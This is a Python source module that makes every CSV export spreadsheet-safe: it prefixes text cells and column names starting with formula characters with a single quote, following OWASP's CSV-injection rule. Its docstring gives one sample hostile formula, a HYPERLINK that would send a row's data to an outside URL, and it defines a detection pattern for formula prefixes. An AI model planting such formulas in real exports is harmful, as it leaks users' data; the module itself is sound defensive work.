"""Every CSV we write, written one way: safe to open in a spreadsheet.

Customer-controlled text (a display name, a tier, a tag, an attribute header) can start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return; a spreadsheet opening the CSV would run it as a formula
(``=HYPERLINK("http://…"&A1, "…")`` sends the row elsewhere). OWASP's rule (CSV Injection): prefix such a text
cell with a single quote, which spreadsheets show as text. Only text is touched — a number stays a number, a
negative one too — and the header (column names can come from a file's headers) is treated as text. Parquet
and JSON downloads stay exact; they are not read as formulas.

The drill-down and other "Download CSV" buttons (``dashboard.ui.widgets.render_download``), ``report --format
csv`` and the notebooks' CSV all call :func:`csv_text` / :func:`csv_bytes`; nothing else writes CSV.
"""

from __future__ import annotations

import polars as pl

__all__ = ["FORMULA_STARTS", "csv_bytes", "csv_text", "neutralise", "spreadsheet_safe"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet shows it, never as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _safe_text(expr: pl.Expr) -> pl.Expr:
    starts = "^[" + "".join("\\" + c if c in "-+\\]^" else c for c in FORMULA_STARTS) + "]"
    return pl.when(expr.str.contains(starts)).then(pl.lit("'") + expr).otherwise(expr)


def spreadsheet_safe(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` ready for CSV: text cells and column names neutralised, lists joined with ``;`` (as the importer
    reads them), structs as JSON; numbers, times and booleans as they are."""
    columns = []
    for name, dtype in frame.schema.items():
        col = pl.col(name)
        if isinstance(dtype, pl.List | pl.Array):
            text = col.cast(pl.List(pl.String)).list.join(";")
        elif isinstance(dtype, pl.Struct):
            text = col.struct.json_encode()
        elif dtype == pl.String or isinstance(dtype, pl.Enum | pl.Categorical):
            text = col.cast(pl.String)
        else:
            columns.append(col.alias(neutralise(name)))
            continue
        columns.append(_safe_text(text).alias(neutralise(name)))
    return frame.select(columns)


def csv_text(frame: pl.DataFrame) -> str:
    """The CSV of ``frame`` (see :func:`spreadsheet_safe`)."""
    return spreadsheet_safe(frame).write_csv()


def csv_bytes(frame: pl.DataFrame) -> bytes:
    """:func:`csv_text` as UTF-8 bytes, for a download."""
    return csv_text(frame).encode("utf-8")
